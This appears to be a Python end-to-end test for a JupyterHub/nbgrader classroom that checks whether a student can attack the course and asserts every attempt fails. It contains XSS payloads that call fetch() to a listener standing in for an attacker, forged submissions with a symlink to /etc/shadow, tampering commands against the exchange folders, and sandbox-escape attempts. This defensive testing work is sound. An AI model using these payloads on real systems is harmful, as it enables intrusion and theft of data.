    advice = [p for p in check_class(settings) if "cannot be entered by other users" in p]
    assert len(advice) == 1 and "/usr/bin/python3 -m venv" in advice[0], advice


# -- the machine: users, permissions, processes ----------------------------------------
def _missing() -> list[str]:
    missing = []
    if os.geteuid() != 0:
        missing.append("root (creates system users)")
    if find_chromium() is None:
        missing.append("chromium (apt-get install chromium)")
    if shutil.which("configurable-http-proxy") is None:
        missing.append("configurable-http-proxy (npm install -g configurable-http-proxy)")
    for tool in ("useradd", "userdel", "runuser", "sudo", "bwrap"):
        if shutil.which(tool) is None:
            missing.append(tool)
    if not (Path(sys.executable).parent / "jupyterhub").exists():
        missing.append("jupyterhub (pip install -e '.[test]')")
    return missing


def _blocked_dirs(*paths: Path) -> list[Path]:
    """Folders on the way to ``paths`` that other users cannot enter."""
    found: list[Path] = []
    for path in paths:
        for parent in [*reversed(path.parents), path]:
            if parent.is_dir() and not parent.stat().st_mode & stat.S_IXOTH and parent not in found:
                found.append(parent)
    return found


class Machine:
    """System users and processes this test made, and how to remove them."""

    def __init__(self) -> None:
        self.users: list[str] = []
        self.modes: dict[Path, int] = {}
        self.files: list[Path] = []
        self.procs: list[subprocess.Popen] = []
        self.cgroups: list[Path] = []

    def add_user(self, name: str) -> Path:
        subprocess.run(["useradd", "--create-home", "--shell", "/bin/bash", name], check=True)
        self.users.append(name)
        return Path(pwd.getpwnam(name).pw_dir)

    def allow_traverse(self, *paths: Path) -> None:
        """Students run the course's Python: let them enter (not list) its folders."""
        for folder in _blocked_dirs(*paths):
            self.modes[folder] = stat.S_IMODE(folder.stat().st_mode)
            folder.chmod(self.modes[folder] | stat.S_IXOTH)

    def cleanup(self) -> list[str]:
        left: list[str] = []
        for proc in self.procs:
            if proc.poll() is None:
                proc.send_signal(signal.SIGTERM)  # the hub stops the servers and the proxy
                try:
                    proc.wait(60)
                except subprocess.TimeoutExpired:
                    os.killpg(proc.pid, signal.SIGKILL)
                    proc.wait(10)
        for user in self.users:
            pids = subprocess.run(["pgrep", "-u", user], capture_output=True, text=True).stdout.split()
            for pid in pids:  # only processes of the users this test created
                left.append(f"{user}: pid {pid}")
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except ProcessLookupError:
                    pass
            time.sleep(0.5 if pids else 0)
            subprocess.run(["userdel", "--remove", user], capture_output=True)
        for folder, mode in self.modes.items():
            folder.chmod(mode)
        for group in self.cgroups:  # the course's memory cgroup, empty once the kernels ended
            for sub in cgroup_tree(group):
                try:
                    sub.rmdir()
                except OSError as exc:
                    left.append(f"cgroup {sub}: {exc}")
        for path in self.files:
            path.unlink(missing_ok=True)
        return left


@pytest.fixture
def machine(shared_tmp):
    # Made after the shared folder and so torn down before it: the hub is stopped while
    # its class folder (database, proxy pid file, exchange) still exists.
    missing = _missing()
    if missing:
        if IN_CI or os.geteuid() == 0:
            pytest.fail("the class-in-a-box test needs: " + ", ".join(missing))
        pytest.skip("needs root (not in CI): " + ", ".join(missing))
    m = Machine()
    try:
        yield m
    finally:
        left = m.cleanup()
        still = [u for u in m.users if _user_exists(u)]
        assert not still, f"users left behind: {still}"
        # Processes still running after the hub stopped are a leak (they were killed).
        assert not left, f"processes left after the hub stopped: {left}"


def _user_exists(name: str) -> bool:
    try:
        pwd.getpwnam(name)
    except KeyError:
        return False
    return True


# -- helpers -------------------------------------------------------------------------------
def classroom(class_dir: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess:
    r = subprocess.run([sys.executable, "-m", "coursetools.classroom", "--dir", str(class_dir), *args],
                       capture_output=True, text=True, cwd=ROOT)
    if check:
        assert r.returncode == 0, f"classroom {' '.join(args)}:\n{r.stdout}\n{r.stderr}"
    return r


def as_user(settings, user: str, *args: str) -> str:
    extra = {"PYTHONPATH": os.environ["PYTHONPATH"]} if "PYTHONPATH" in os.environ else {}
    r = run_as(settings, user, list(args), extra_env=extra, timeout=600)
    assert r.returncode == 0, f"{user}: {' '.join(args)} failed:\n{r.stdout}\n{r.stderr}"
    return r.stdout + r.stderr


DOC = ROOT / "docs" / "classroom.md"
#: Who runs a block of docs/classroom.md (its fence's info string after "bash"). The
#: test runs "root" and "teacher" blocks as written; the others it cannot (see the guide).
DOC_KINDS = {"install": 1, "accounts": 2, "setup": 1, "root": 3, "service": 1, "teacher": 4}


def doc_blocks() -> dict[str, list[str]]:
    import re

    blocks: dict[str, list[str]] = {}
    for m in re.finditer(r"^```bash (\w+)\n(.*?)^```", DOC.read_text(encoding="utf-8"), re.M | re.S):
        blocks.setdefault(m.group(1), []).append(m.group(2))
    return blocks


def test_guide_installs_the_course_environment() -> None:
    """Issue 54: the class's environment is the course's (its JupyterLab settings too), and
    the install step keeps a Node.js that is already there (NodeSource's conflicts with
    Debian's npm)."""
    install = doc_blocks()["install"][0]
    assert '-e ".[classroom]" ./course-settings' in install, install
    assert "command -v npm >/dev/null || apt-get install -y nodejs npm" in install, install
    assert "nodejs" not in install.splitlines()[0], install


def run_root_block(block: str, class_dir: Path, home: Path) -> str:
    """A root block of the guide, as written: bash in the repository, ``~`` = ``home``."""
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "PERCEPTRON_CLASS_DIR": str(class_dir),
           "LANG": "C.UTF-8"}
    if "PYTHONPATH" in os.environ:
        env["PYTHONPATH"] = os.environ["PYTHONPATH"]
    r = subprocess.run(["bash", "-euo", "pipefail", "-c", block], cwd=ROOT, env=env,
                       capture_output=True, text=True, timeout=600)
    assert r.returncode == 0, f"root block failed:\n{block}\n{r.stdout}\n{r.stderr}"
    return r.stdout + r.stderr


def run_login_block(user: str, block: str) -> str:
    """An instructor block of the guide, run as the guide says: ``sudo -u USER -i``.

    The login shell reads the profile (PATH, JUPYTER_CONFIG_PATH) and then runs the block
    from a file the user can read, as if typed there. PYTHONPATH passes through so that a
    worktree's own coursetools is the one imported.
    """
    with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as script:
        script.write("set -euo pipefail\n" + block)
    os.chmod(script.name, 0o644)
    pass_on = ["env", f"PYTHONPATH={os.environ['PYTHONPATH']}"] if os.environ.get("PYTHONPATH") else []
    try:
        r = subprocess.run(["sudo", "-u", user, "-i", *pass_on, "bash", script.name],
                           capture_output=True, text=True, timeout=900, cwd="/")
    finally:
        os.unlink(script.name)
    assert r.returncode == 0, f"{user}'s login shell failed:\n{block}\n{r.stdout}\n{r.stderr}"
    return r.stdout + r.stderr


def wait_http(url: str, seconds: float) -> None:
    end = time.monotonic() + seconds
    while True:
        try:
            with urllib.request.urlopen(url, timeout=5) as r:
                if r.status == 200:
                    return
        except OSError:
            pass
        if time.monotonic() > end:
            raise AssertionError(f"{url} did not answer in {seconds} s")
        time.sleep(0.5)


def graded_cells(nb, kind: str) -> dict[str, float]:
    return {c.metadata["nbgrader"]["grade_id"]: float(c.metadata["nbgrader"]["points"])
            for c in nb.cells
            if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == kind}


#: The planted cell of the class test: the attacks of issue 45 from inside autograde.
PLANTED_IN_CLASS = PLANTED + r"""
attempt("read_source", lambda: open(SOURCE).read())
attempt("read_release", lambda: os.listdir(RELEASE))
attempt("write_course", lambda: open(COURSE + "/planted.txt", "w").write("x"))
attempt("write_tmp", lambda: open(HOST_TMP, "w").write("x"))
attempt("list_inbound", lambda: os.listdir(INBOUND))
print("CLASS-REPORT " + json.dumps(found))
"""


#: Issue 54: active content in a submission, each piece calling home to a different path
#: of the test's listener (HOST) when it runs, loads or is clicked.
PAYLOAD_MARKDOWN = """\
A written answer with active content.

<img src="no-such-image.png" onerror="fetch('HOST/md-img-onerror')">
<script>fetch('HOST/md-script')</script>
<a href="javascript:fetch('HOST/md-js-link')" class="payload-click">click-js</a>
<base href="HOST/md-base/">
<img src="relative-after-base.png">
<meta http-equiv="refresh" content="1;url=HOST/md-meta-refresh">
<form action="HOST/md-form" method="get"><input type="password" name="pw" value="x">
<button class="payload-click" type="submit">send</button></form>
<iframe src="HOST/md-iframe"></iframe>
<svg width="10" height="10" onload="fetch('HOST/md-svg')"><circle r="5"/></svg>
<div style="background-image: url('HOST/md-css')">styled</div>
<img src="HOST/md-tracking-pixel.png" alt="a pixel that tells when the page is read">

![another pixel](HOST/md-markdown-image.png)

[click-md-link](javascript:fetch('HOST/md-markdown-link'))
"""
PAYLOAD_CODE = """\
from IPython.display import HTML, SVG, Javascript, display
display(HTML("<script>fetch('HOST/out-html-script')</script>"
             "<img src='nope.png' onerror=\\"fetch('HOST/out-html-onerror')\\">"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\\'HOST/out-svg\\')">'
            '<circle r="5"/></svg>'))
display(Javascript("fetch('HOST/out-javascript')"))
display({"text/markdown": "<img src=nope.png onerror=\\"fetch('HOST/out-markdown')\\">"}, raw=True)
"""


class Listener:
    """A loopback HTTP server recording every path asked of it (the payloads' calls)."""

    def __init__(self) -> None:
        import http.server
        import threading

        self.paths: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's name
                outer.paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def payload_requests(page, listener: Listener, url: str) -> list[str]:
    """Open ``url`` in ``page``, click what a reader would, and return the payloads' calls."""
    seen: list[str] = []
    page.on("request", lambda r: seen.append(r.url) if r.url.startswith(listener.base) else None)
    page.goto(url, timeout=TIMEOUT_MS)
    page.wait_for_timeout(2500)  # the meta refresh waits 1 s
    for link in page.locator(".payload-click, a:text-is('click-md-link')").all():
        try:
            link.click(timeout=2000, no_wait_after=True)
        except Exception:  # noqa: BLE001 - playwright's errors: a neutralised link is text
            pass
    page.wait_for_timeout(1500)
    return sorted(set(seen) | {listener.base + p for p in listener.paths})


def answer(release: Path, owner: str, kind: str, planted: dict | None = None) -> None:
    """Fill a fetched notebook as the student would (as root, then give it back)."""
    lesson = nbformat.read(LESSON, as_version=4)
    solutions = {c.metadata["nbgrader"]["grade_id"]: c.source for c in lesson.cells
                 if c.metadata.get("nbgrader", {}).get("solution")}
    nb = nbformat.read(release, as_version=4)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in solutions and kind in ("correct", "wrong"):
            cell.source = solutions[grade_id]
        if kind == "wrong" and grade_id == "ex2-answer":
            cell.source = "def affine_general_position_2d(points):\n    return True\n"
        if kind == "wrong" and grade_id == "ex2-check":
            cell.source = "# the check, edited by the student so that it passes\npass\n"
    if kind == "wrong" and planted:
        nb.cells.append(nbformat.v4.new_code_cell(
            "".join(f"{k} = {v!r}\n" for k, v in planted.items()) + PLANTED_IN_CLASS))
        host = planted["PAYLOAD_HOST"]
        nb.cells.append(nbformat.v4.new_markdown_cell(PAYLOAD_MARKDOWN.replace("HOST", host)))
        nb.cells.append(nbformat.v4.new_code_cell(PAYLOAD_CODE.replace("HOST", host)))
    if kind != "blank":
        nbformat.write(nb, release)
    entry = pwd.getpwnam(owner)
    os.chown(release, entry.pw_uid, entry.pw_gid)


# -- the browser -----------------------------------------------------------------------------
class Hub:
    def __init__(self, browser, base: str) -> None:
        self.browser, self.base = browser, base

    def login(self, user: str):
        context = self.browser.new_context(viewport={"width": 1280, "height": 800})
        page = context.new_page()
        page.goto(f"{self.base}/hub/login", timeout=TIMEOUT_MS)
        page.fill("input[name=username]", user)
        page.fill("input[name=password]", PASSWORD)
        page.click("#login_submit")  # the hub starts the user's server now
        return page

    @staticmethod
    def wait_lab(page) -> None:
        page.wait_for_selector("#jp-main-dock-panel", timeout=TIMEOUT_MS)
        page.wait_for_selector(".lm-MenuBar-itemLabel:text-is('Nbgrader')", timeout=TIMEOUT_MS)

    @staticmethod
    def menu_items(page) -> list[str]:
        page.click(".lm-MenuBar-itemLabel:text-is('Nbgrader')")
        page.wait_for_selector(".lm-Menu-content")
        items = page.locator(".lm-Menu-content .lm-Menu-itemLabel").all_inner_texts()
        page.keyboard.press("Escape")
        return items

    @staticmethod
    def open_assignments(page) -> None:
        # A click on the menu bar right after a menu was closed (or while Lab is still
        # laying out) can leave the menu shut: try again as a user would, a few times.
        item = page.locator(".lm-Menu-itemLabel:text-is('Assignment List')")
        for attempt in range(4):
            page.keyboard.press("Escape")
            page.click(".lm-MenuBar-itemLabel:text-is('Nbgrader')")
            try:
                item.wait_for(state="visible", timeout=5_000)
            except Exception:  # noqa: BLE001 - playwright's TimeoutError; retried below
                shot(page, f"menu-not-open-{attempt}")
                continue
            item.click()
            break
        page.wait_for_selector("#released_assignments_list", timeout=TIMEOUT_MS)


def shot(page, name: str) -> None:
    page.screenshot(path=str(OUTPUT / f"{name}.png"))


# -- the class -------------------------------------------------------------------------------
@pytest.fixture
def shared_tmp():
    """A folder every user can enter (pytest's own tmp_path is root's alone)."""
    import tempfile

    path = Path(tempfile.mkdtemp(prefix="perceptron-class-"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def test_class_end_to_end(machine, shared_tmp) -> None:
    from playwright.sync_api import sync_playwright

    tmp_path = shared_tmp

    started = time.monotonic()

    def stage(what: str) -> None:
        print(f"[{time.monotonic() - started:5.0f} s] {what}", flush=True)
    OUTPUT.mkdir(parents=True, exist_ok=True)
    for old in OUTPUT.glob("*.png"):
        old.unlink()
    tag = secrets.token_hex(3)
    instructor = f"pci{tag}"
    students = {"correct": f"pca{tag}", "blank": f"pcb{tag}", "wrong": f"pcc{tag}"}
    homes = {name: machine.add_user(name) for name in (instructor, *students.values())}
    machine.allow_traverse(Path(sys.executable).parent, Path(sys.executable).resolve(), ROOT)

    blocks = doc_blocks()
    assert {k: len(v) for k, v in blocks.items()} == DOC_KINDS, "docs/classroom.md's blocks changed"
    class_dir, exchange = tmp_path / "class", tmp_path / "exchange"
    root_home = tmp_path / "root-home"  # `~` of the guide's root blocks
    root_home.mkdir()
    port, hub_port, proxy_port = free_port(), free_port(), free_port()
    assert len({port, hub_port, proxy_port}) == 3
    # The guide's setup line plus test-only options (no --ip: the default must be loopback).
    from coursetools.classroom.setup import EXCHANGE_COURSE_MODES, profile_file

    setup_line = blocks["setup"][0].strip()
    assert setup_line.endswith(" setup --instructor teacher"), setup_line
    run_root_block(
        setup_line.replace("--instructor teacher", f"--instructor {instructor}")
        + f" --exchange {exchange} --course-id pc-{tag} --course-root {homes[instructor]}/perceptron-course"
        f" --port {port} --hub-port {hub_port} --proxy-api-port {proxy_port} --lesson 3"
        f" --authenticator dummy --test-password {PASSWORD}", class_dir, root_home)
    settings = load_settings(class_dir)
    machine.files.append(profile_file(settings))
    from coursetools.classroom.setup import grading_cgroup

    group = grading_cgroup(settings)
    assert group is not None and group.stat().st_uid == pwd.getpwnam(instructor).pw_uid, group
    machine.cgroups.append(group)
    assert stat.S_IMODE(exchange.stat().st_mode) == 0o1777
    assert stat.S_IMODE(settings.course_root.stat().st_mode) == 0o700
    assert f'bind_url = "http://127.0.0.1:{port}"' in settings.hub_config.read_text()
    course_ex = settings.exchange_course
    for sub, mode in EXCHANGE_COURSE_MODES.items():
        st = (course_ex / sub).stat()
        assert st.st_uid == pwd.getpwnam(instructor).pw_uid and stat.S_IMODE(st.st_mode) == mode, sub

    stage("setup done")
    # Squatting: a student tries to take the course's exchange folders; nothing changes.
    before = sorted(str(p) for p in course_ex.rglob("*"))
    squat = as_user(settings, students["wrong"], "bash", "-c", "; ".join(
        f"if {cmd} 2>/dev/null; then echo SQUATTED: {cmd!r}; fi" for cmd in (
            f"mkdir '{course_ex}/outbound/{ASSIGNMENT}'", f"touch '{course_ex}/planted'",
            f"rm -rf '{course_ex}/outbound'", f"mv '{course_ex}' '{exchange}/moved'",
            f"mkdir '{course_ex}/inbound/x' && mv '{course_ex}/inbound/x' '{course_ex}/outbound/x'",
            f"ls '{course_ex}/inbound'")))
    assert "SQUATTED" not in squat, squat
    after = [p for p in sorted(str(p) for p in course_ex.rglob("*")) if not p.endswith("/inbound/x")]
    assert after == before and not (exchange / "moved").exists()
    shutil.rmtree(course_ex / "inbound" / "x", ignore_errors=True)  # a harmless empty submission
    # Roster: a malformed line refuses the whole file; then the real one.
    bad = tmp_path / "bad.csv"
    bad.write_text("id,first name,last name,email\n"
                   f"{students['correct']},Ada,Lovelace,ada@example.org\n"
                   f"{students['blank']},Alan,Turing,not-an-address\n")
    r = classroom(class_dir, "roster", "import", str(bad), check=False)
    assert r.returncode == 1 and "line 3: email 'not-an-address'" in r.stderr, r.stderr
    assert not (settings.course_root / "gradebook.db").exists(), "half-imported roster"
    # Homes others can read (useradd's default here): check says which and how to close them.
    r = classroom(class_dir, "check", check=False)
    assert r.returncode == 1 and f"chmod 700 {homes[instructor]}" in r.stderr, r.stderr
    for home in homes.values():
        home.chmod(0o700)  # what Debian's adduser makes
    roster = root_home / "students.csv"
    names = {"correct": ("Ada", "Lovelace"), "blank": ("Alan", "Turing"), "wrong": ("Grace", "Hopper")}
    roster.write_text("id,first name,last name,email\n" + "".join(
        f"{students[k]},{first},{last},{students[k]}@example.org\n" for k, (first, last) in names.items()))
    # The guide's block: roster import ~/students.csv, then check.
    out = run_root_block(blocks["root"][0], class_dir, root_home)
    assert "TEST-ONLY" in out and "ok: class" in out, out
    listing = as_user(settings, instructor, "nbgrader", "db", "student", "list")
    for k, (first, last) in names.items():
        assert f"{students[k]} ({last}, {first})" in listing

    stage("roster imported")
    # Release: the guide's block in the instructor's login shell (deadline a week ahead).
    run_login_block(instructor, blocks["teacher"][0])
    assert (course_ex / "outbound" / ASSIGNMENT / LESSON.name).is_file()

    stage("released")
    # The hub, as root, on loopback.
    log = (tmp_path / "hub.log").open("w")
    env = dict(os.environ, PATH=f"{settings.env_bin}:{os.environ.get('PATH', '')}")
    # The guide's command, in the test's folders (class folder, repository).
    assert blocks["service"][0].strip() == (
        "cd /srv/perceptron-course && /opt/perceptron-course/.venv/bin/jupyterhub -f jupyterhub_config.py")
    hub = subprocess.Popen([str(ROOT / ".venv" / "bin" / "jupyterhub"), "-f", "jupyterhub_config.py"],
                           cwd=class_dir, stdout=log, stderr=subprocess.STDOUT, env=env,
                           start_new_session=True)
    machine.procs.append(hub)
    base = f"http://127.0.0.1:{port}"
    try:
        wait_http(f"{base}/hub/health", 120)
    except AssertionError:
        log.flush()
        raise AssertionError((tmp_path / "hub.log").read_text()[-4000:]) from None

    stage("hub up")
    lesson = nbformat.read(LESSON, as_version=4)
    auto = graded_cells(lesson, "code")
    auto_total = sum(auto.values())
    manual_total = sum(graded_cells(lesson, "markdown").values())
    assert auto_total > 0 and "ex2-check" in auto
    fetched = {k: homes[s] / ASSIGNMENT / LESSON.name for k, s in students.items()}

    listener = Listener()  # where the submission's active content would call home
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=find_chromium(), args=CHROMIUM_ARGS)
        try:
            hubui = Hub(browser, base)
            login_page = browser.new_page()
            login_page.goto(f"{base}/hub/login")
            shot(login_page, "01-login")
            login_page.close()
            # Everyone logs in first: the hub starts the four servers side by side.
            pages = {k: hubui.login(s) for k, s in students.items()}
            teacher = hubui.login(instructor)

            # Students: the menus, then fetch and submit from the Assignments panel.
            for k in ("correct", "blank"):
                page = pages[k]
                hubui.wait_lab(page)
                items = hubui.menu_items(page)
                assert "Assignment List" in items and "Formgrader" not in items, items
                assert "Create assignment" not in items and "Course List" not in items, items
                hubui.open_assignments(page)
                page.wait_for_selector(f"#released_assignments_list :text('{ASSIGNMENT}')",
                                       timeout=TIMEOUT_MS)
                if k == "correct":
                    shot(page, "02-student-assignments-released")
                page.click("#released_assignments_list button:text-is('Fetch')")
                page.wait_for_selector("#fetched_assignments_list button:text-is('Submit')",
                                       timeout=TIMEOUT_MS)
                assert fetched[k].is_file(), f"fetch did not write {fetched[k]}"
                answer(fetched[k], students[k], k)
                page.click("#fetched_assignments_list button:text-is('Submit')")
                page.wait_for_selector(f"#submitted_assignments_list :text('{ASSIGNMENT}')",
                                       timeout=TIMEOUT_MS)
                if k == "correct":
                    shot(page, "03-student-submitted")

            stage("two students submitted")
            # The deadline passes; the third student submits late.
            now = datetime.now(UTC)
            as_user(settings, instructor, "nbgrader", "db", "assignment", "add", ASSIGNMENT,
                    f"--duedate={now.isoformat()}")
            time.sleep(2)
            page = pages["wrong"]
            hubui.wait_lab(page)
            hubui.open_assignments(page)
            page.wait_for_selector(f"#released_assignments_list :text('{ASSIGNMENT}')", timeout=TIMEOUT_MS)
            page.click("#released_assignments_list button:text-is('Fetch')")
            page.wait_for_selector("#fetched_assignments_list button:text-is('Submit')", timeout=TIMEOUT_MS)
            host_tmp = f"/tmp/planted-{tag}.txt"
            planted = {
                "SECRET": str(settings.course_root / "gradebook.db"), "HIDDEN": str(course_ex),
                "OUTSIDE": str(settings.course_root / "planted-outside.txt"),
                "SOURCE": str(settings.course_root / "source" / ASSIGNMENT / LESSON.name),
                "RELEASE": str(settings.course_root / "release" / ASSIGNMENT),
                "COURSE": str(settings.course_root), "HOST_TMP": host_tmp,
                "INBOUND": str(course_ex / "inbound"), "PAYLOAD_HOST": listener.base}
            answer(fetched["wrong"], students["wrong"], "wrong", planted)
            page.click("#fetched_assignments_list button:text-is('Submit')")
            page.wait_for_selector(f"#submitted_assignments_list :text('{ASSIGNMENT}')", timeout=TIMEOUT_MS)

            stage("late student submitted")
            # Forgeries by the late student: a folder named after the first student with a
            # timestamp in 2030 (it would win over every real one); one of their own with a
            # link to /etc/shadow, newer than their real one; one with a malformed name.
            inbound = course_ex / "inbound"
            victim, attacker = students["correct"], students["wrong"]
            copy = f"'{fetched['wrong']}'"
            forged = as_user(settings, attacker, "bash", "-euc", f"""
                f='{inbound}/{victim}+{ASSIGNMENT}+2030-01-01 00:00:00.000000 UTC+forged'
                mkdir "$f" && cp {copy} "$f/" && echo '2030-01-01 00:00:00.000000 UTC' > "$f/timestamp.txt"
                chmod 777 "$f"
                now="$(date -u '+%Y-%m-%d %H:%M:%S.%6N UTC')"
                l="{inbound}/{attacker}+{ASSIGNMENT}+$now+linked"
                mkdir "$l" && cp {copy} "$l/" && echo "$now" > "$l/timestamp.txt"
                ln -s /etc/shadow "$l/shadow" && chmod 777 "$l"
                mkdir '{inbound}/{attacker}+{ASSIGNMENT}+not-a-time+x'
                echo forged""")
            assert "forged" in forged
            # Issue 54: another's submission, by its exact name: the late student can read,
            # plant, change or delete nothing in it (nbgrader left it world-writable).
            real = next(p for p in inbound.glob(f"{victim}+{ASSIGNMENT}+*") if "forged" not in p.name)
            gid = pwd.getpwnam(instructor).pw_gid
            assert stat.S_IMODE(real.stat().st_mode) == 0o750 and real.stat().st_gid == gid
            assert {stat.S_IMODE(p.stat().st_mode) for p in real.rglob("*") if p.is_file()} == {0o644}
            meddle = as_user(settings, attacker, "bash", "-c", "; ".join(
                f"if {cmd} 2>/dev/null; then echo MEDDLED: {cmd!r}; fi" for cmd in (
                    f"touch '{real}/planted.ipynb'", f"rm -f '{real}/timestamp.txt'",
                    f"echo x >> '{real}/{LESSON.name}'", f"cat '{real}/{LESSON.name}' >/dev/null",
                    f"ls '{real}'", f"chmod 777 '{real}'")))
            assert "MEDDLED" not in meddle, meddle
            assert (real / "timestamp.txt").is_file() and not (real / "planted.ipynb").exists()
            # A student's server has no formgrader at all (not only no menu).
            resp = pages["blank"].goto(f"{base}/user/{students['blank']}/formgrader")
            assert resp is not None and resp.status == 404, resp and resp.status

            # Instructor: collect and autograde, then the formgrader in its own tab.
            hubui.wait_lab(teacher)
            items = hubui.menu_items(teacher)
            assert "Formgrader" in items and "Assignment List" in items, items
            # Collect and autograde: the guide's block in the instructor's login shell.
            graded_log = run_login_block(instructor, blocks["teacher"][1])
            refusals = [line for line in graded_log.splitlines() if "Refused submission" in line]
            assert len(refusals) == 3, graded_log[-4000:]
            assert any(f"claims {victim}, owned by {attacker}): names {victim} but the folder belongs to "
                       f"{attacker}" in line for line in refusals), refusals
            assert any("symbolic link shadow -> /etc/shadow" in line for line in refusals), refusals
            assert any("not STUDENT+ASSIGNMENT+TIMESTAMP" in line for line in refusals), refusals
            refused_log = (settings.course_root / "refused-submissions.log").read_text()
            assert refused_log.count("refused ") == 3 and f"owned by {attacker}" in refused_log
            # The checksum warning means what the guide says: one edited check, nothing else.
            assert "will not proceed" not in graded_log and "SAWarning" not in graded_log, graded_log
            warnings = [line for line in graded_log.splitlines() if "Attribute 'checksum'" in line]
            assert len(warnings) == 1 and "cell ex2-check has changed" in warnings[0], warnings
            stage("autograded")
            teacher.goto(f"{base}/user/{instructor}/formgrader/manage_assignments", timeout=TIMEOUT_MS)
            teacher.wait_for_selector(f"text={ASSIGNMENT}", timeout=TIMEOUT_MS)
            teacher.wait_for_timeout(1500)
            shot(teacher, "04-formgrader-assignments")
            teacher.goto(f"{base}/user/{instructor}/formgrader/gradebook/{ASSIGNMENT}/{LESSON.stem}",
                         timeout=TIMEOUT_MS)
            # The formgrader hides names by default: three anonymous submissions, with the
            # code scores expected from the lesson's points (full, none, all but ex2).
            teacher.wait_for_selector("text=Submission #3", timeout=TIMEOUT_MS)
            teacher.wait_for_timeout(1500)
            table = teacher.inner_text("body")
            for score in (auto_total, 0.0, auto_total - auto["ex2-check"]):
                assert f"{score:g} / {auto_total:g}" in table, table
            shot(teacher, "05-formgrader-submissions")
            # Issue 54: the late student's active content, on the manual-grading page the
            # guide sends the instructor to: nothing runs, loads or navigates.
            from nbgrader.api import Gradebook

            with Gradebook(settings.gradebook_url) as gb:
                graded_id = gb.find_submission_notebook(LESSON.stem, ASSIGNMENT, students["wrong"]).id
            grading = teacher.context.new_page()
            csp = grading.request.get(f"{base}/user/{instructor}/formgrader/submissions/{graded_id}/")
            assert "base-uri 'self'" in csp.headers.get("content-security-policy", ""), csp.headers
            calls = payload_requests(grading, listener,
                                     f"{base}/user/{instructor}/formgrader/submissions/{graded_id}/")
            assert grading.locator("text=A written answer with active content").count() == 1
            shot(grading, "05b-formgrader-grading-page")
            grading.close()
            assert calls == [], f"the submission's active content ran in the formgrader: {calls}"

            stage("formgrader seen")
            # Feedback: generated, released, fetched (one student in the browser).
            feedback_log = run_login_block(instructor, blocks["teacher"][2])  # the guide's feedback block
            assert "WARNING" not in feedback_log and "Warning" not in feedback_log, feedback_log
            page = pages["correct"]
            page.click("#refresh_assignments_list")
            page.click("#submitted_assignments_list button:text-is('Fetch Feedback')", timeout=TIMEOUT_MS)
            page.wait_for_selector("#submitted_assignments_list :text('(view feedback)')", timeout=TIMEOUT_MS)
            shot(page, "06-student-feedback")
            for k in ("blank", "wrong"):
                as_user(settings, students[k], "nbgrader", "fetch_feedback", ASSIGNMENT)
            # The late student's feedback report, opened as a student would: passive too.
            report = next((homes[students["wrong"]] / ASSIGNMENT / "feedback").glob(f"*/{LESSON.stem}.html"))
            reader = browser.new_context().new_page()
            calls = payload_requests(reader, listener, report.as_uri())
            assert reader.locator("text=A written answer with active content").count() == 1
            reader.close()
            assert calls == [], f"the submission's active content ran in its feedback: {calls}"
        except Exception:
            for name, p in [*locals().get("pages", {}).items(), ("teacher", locals().get("teacher"))]:
                if p is not None:
                    shot(p, f"failed-{name}")
            raise
        finally:
            browser.close()
            listener.close()

    for s in students.values():
        reports = list((homes[s] / ASSIGNMENT / "feedback").glob(f"*/{LESSON.stem}.html"))
        assert len(reports) == 1, f"{s}: feedback {reports}"

    stage("feedback fetched")
    # Exports: nbgrader's own, then Canvas and Moodle.
    run_login_block(instructor, blocks["teacher"][3])  # nbgrader export
    with (settings.course_root / "grades.csv").open() as f:
        exported = {row["student_id"]: row for row in csv.DictReader(f)}
    run_root_block(blocks["root"][2], class_dir, root_home)  # export-grades
    canvas, moodle = root_home / "canvas.csv", root_home / "moodle.csv"
    edited = run_root_block(blocks["root"][1], class_dir, root_home)  # edited-checks

    # The planted cell, as autograde ran it in the sandbox: every attack failed.
    import json

    graded_nb = nbformat.read(settings.course_root / "autograded" / students["wrong"] / ASSIGNMENT
                              / LESSON.name, as_version=4)
    texts = [o.get("text", "") for c in graded_nb.cells if c.cell_type == "code"
             for o in c.get("outputs", [])]
    report = next(line for t in texts for line in t.splitlines() if line.startswith("CLASS-REPORT "))
    found = json.loads(report.split(" ", 1)[1])
    for attack in ("read_secret", "read_source", "read_release", "write_course", "write_outside",
                   "list_inbound", "read_shadow"):
        assert found[attack] in ("FileNotFoundError", "PermissionError", "OSError"), (attack, found)
    assert found["write_tmp"] == "done" and not Path(host_tmp).exists(), found  # its own /tmp
    assert found["allocate_4g"] == "MemoryError" and found["processes"] < 64, found
    # One memory limit for the whole grading kernel (the course's cgroup, set up by setup
    # and entered by the instructor's sandbox): of four 1.5 GiB workers at most one held.
    assert found["workers"] == "done" and found["workers_ok"] <= 1, found
    assert found["fill_shm"] == "OSError", found
    assert not (settings.course_root / "planted.txt").exists()

    # Scores, from the gradebook, against the lesson's own points.
    from nbgrader.api import Gradebook

    expected = {"correct": auto_total, "blank": 0.0, "wrong": auto_total - auto["ex2-check"]}
    with Gradebook(settings.gradebook_url) as gb:
        for k, s in students.items():
            sub = gb.find_submission(ASSIGNMENT, s)
            assert sub.code_score == expected[k], f"{k}: {sub.code_score} != {expected[k]}"
            assert sub.max_code_score == auto_total and sub.max_written_score == manual_total
            late = sub.total_seconds_late
            assert (late > 0) == (k == "wrong"), f"{k}: {late} s late"
        cell = gb.find_grade("ex2-check", LESSON.stem, ASSIGNMENT, students["wrong"])
        assert cell.score == 0
    for k, s in students.items():
        assert float(exported[s]["raw_score"]) == expected[k], exported[s]
    assert edited.strip() == (
